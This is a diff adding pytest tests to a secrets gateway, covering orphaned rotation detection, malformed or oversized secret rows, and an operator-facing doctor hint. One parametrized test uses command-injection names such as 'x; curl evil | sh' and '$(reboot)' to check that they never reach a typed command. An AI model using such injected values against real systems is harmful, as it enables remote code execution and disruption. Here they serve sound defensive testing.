@@ -13,7 +13,10 @@ from sqlalchemy import TextClause, text
 from gateway.cli.secrets_list import tell_keys
 from gateway.credentials.stored.resealing import Resealing
 from gateway.custody import Custody
+from gateway.doctor.custody import rotations
+from gateway.fetch import HttpFetch
 from gateway.resources import Nobody, SystemClock
+from gateway.rotations import Rotations
 from gateway.settings import load
 from gateway.store.bell import Bell
 from gateway.store.sql.leases import Leases
@@ -95,3 +98,62 @@ async def test_a_fence_that_is_no_number_keeps_nobody_from_the_turn(beside: Besi
     taken = await leases.take("grant:1", 30)
     assert taken is not None
     assert taken.fence == after
+
+
+class Watched:
+    """A gateway without rotations looks for those that nothing goes on with, and a doctor beside it."""
+
+    def __init__(self, beside: Beside, folder: Path) -> None:
+        (folder / "config.yaml").write_text(json.dumps({"version": 1} | storing({"file": "store.db"})))
+        self.loaded = load([folder / "config.yaml"], [], environ=ENVIRON)
+        self.beside = beside
+        self.told: list[dict[str, str]] = []
+        fetch, clock = HttpFetch(user_agent="latchgate/test"), SystemClock()
+        self.rotations = Rotations(lambda: self.loaded, lambda: beside.database, fetch, clock, Nobody(), self.tell)
+
+    def tell(self, name: str, /, **fields: str) -> None:
+        assert name == "secret.rotation.orphaned"
+        self.told.append(fields)
+
+    async def look(self) -> list[str]:
+        """The hints of the doctor; what the gateway told is in `told`."""
+        for _ in range(2):
+            await self.rotations.turn()
+        assert self.loaded.settings is not None
+        return [each.hint for each in await rotations(self.loaded, self.loaded.settings, self.beside.database, time.time())]
+
+
+async def test_no_row_that_is_idle_huge_or_no_text_hides_a_rotation_that_nothing_ends(beside: Beside, tmp_path: Path) -> None:
+    for decoys in (
+        secrets(600, name="'rotation:a' || i", subject="'idle'"),
+        secrets(600, name="'rotation:b' || i || char(0) || printf('%.*c', 300, 'x')"),
+        secrets(600, name="'rotation:c' || i || printf('%.*c', 300, 'x')"),
+        secrets(600, name="CAST('rotation:d' || i AS BLOB)"),
+        secrets(300, name="'rotation:e' || i || CAST(x'ff' AS TEXT)"),
+        secrets(1, name="'rotation:zulu'", subject="'overlap'"),
+    ):
+        await beside.database.write(decoys)
+    watched = Watched(beside, tmp_path)
+    hints = await watched.look()
+    assert [(each["entry"], each["step"]) for each in watched.told] == [("?", "?"), ("zulu", "overlap")]
+    assert [hint for hint in hints if "--forget" in hint] == [each["detail"] for each in watched.told if each["entry"] == "zulu"]
+
+
+@pytest.mark.parametrize("name", ["x; curl evil | sh", "$(reboot)", "-x", "two words", "\u001b[2J"])
+async def test_no_name_of_a_row_becomes_a_command_that_an_operator_types(beside: Beside, tmp_path: Path, name: str) -> None:
+    row = secrets(1, name=":name", subject="printf('%.*c', 20000000, 'x')").bindparams(name=f"rotation:{name}")
+    await beside.database.write(row)
+    watched = Watched(beside, tmp_path)
+    hints = await watched.look()
+    ((entry, step, hint),) = [(each["entry"], each["step"], each["detail"]) for each in watched.told]
+    assert (entry, step, hints) == (name, "?", [hint])
+    assert name not in hint
+    assert "delete the row" in hint
+
+
+async def test_what_has_a_huge_key_is_read_by_nobody(beside: Beside) -> None:
+    await beside.put("bot", "value")
+    for nul in ("''", "char(0)"):
+        await beside.database.write(secrets(1, name=f"'a' || {nul} || printf('%.*c', 20000000, 'x')"))
+    assert [row.name for row in await beside.rows.page()] == ["bot"]
+    assert [done.text.key async for done in Resealing(beside.database, ring(), time.time).verified()] == [("bot",)]
